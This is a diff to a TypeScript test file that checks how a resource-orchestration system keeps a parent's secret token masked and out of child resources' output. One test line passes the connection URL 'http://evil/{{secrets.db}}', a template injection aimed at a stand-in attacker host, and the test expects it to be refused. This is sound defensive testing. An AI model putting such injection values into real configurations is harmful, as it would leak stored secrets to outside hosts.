@@ -5,6 +5,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { pino } from "pino";
 import { expect, test } from "vitest";
+import type { JsonObject } from "../../src/core/json.ts";
 import { createTokens } from "../../src/access/tokens.ts";
 import { injectDispatch } from "../../src/cli/composition/inject-dispatch.ts";
 import { startServerParts } from "../../src/cli/composition/server-parts.ts";
@@ -24,6 +25,8 @@ const CHILD = {
   found: { type: "string" },
 };
 
+const token = ({ connection }: { connection: JsonObject }) => connection["token"] as string;
+
 const site = defineResourceType({
   name: "site",
   inProcess: true,
@@ -37,9 +40,12 @@ const site = defineResourceType({
         text: readFileSync(await content(parameters["content"]), "utf8"),
       }),
     },
+    show: { handler: ({ resource }) => ({ token: token(resource).length }) },
     createChild: {
       parameters: parametersOf({ type: { type: "string" }, name: { type: "string" }, ...CHILD }, ["type", "name"]),
-      handler: ({ parameters }) => {
+      handler: ({ parameters, resource }) => {
+        if (parameters["type"] === "page") return { connection: { url: `http://me:${token(resource)}@main` } };
+        if (parameters["name"] === "heir") return { connection: { token: token(resource) }, said: token(resource) };
         if (parameters["fail"] === true) throw new OperationError({ code: "no_room", message: "There is no room." });
         return { labels: { made: "yes" }, connection: { token: parameters["found"] ?? "t0ken" }, port: 80 };
       },
@@ -108,7 +114,7 @@ describeOnBothEngines("deployments and children", (world) => {
   });
 
   test("a child is a resource when it was made, and none when it was not", async () => {
-    const { api, main } = await open();
+    const { api, client, main } = await open();
     const made = main.createChild("site", {
       name: "child",
       labels: { tier: "web" },
@@ -132,6 +138,16 @@ describeOnBothEngines("deployments and children", (world) => {
     await expect(main.createChild("site", { name: "other", connection: { wrong: 1 } })).rejects.toMatchObject({
       entry: { status: "failed", error: { code: "child_refused", details: { made: { port: 80 } } } },
     });
+    // What its parent's secret gives is sealed where the child's type says so, and shown nowhere.
+    await api.apply({
+      resources: { main: { type: "site", zone: "default", connection: { token: "s3cret-of-main" } } },
+    });
+    await api.apply({ types: { page: { connection: { type: "object" }, operations: { look: { run: ["true"] } } } } });
+    expect(await main.createChild("site", { name: "heir" })).toEqual({ said: "********", resource: "heir" });
+    expect(await (await client.resource("heir")).show()).toEqual({ token: "s3cret-of-main".length });
+    const bare = main.createChild("page", { name: "bare" });
+    await expect(bare).rejects.toMatchObject({ entry: { error: { code: "child_refused" } } });
+    expect(JSON.stringify(await bare.outcome())).not.toContain("s3cret-of-main");
     // A connection that an operator or a worker writes is no way to the secret store.
     const stolen = main.createChild("site", { name: "other", connection: { url: "http://evil/{{secrets.db}}" } });
     await expect(stolen).rejects.toMatchObject({
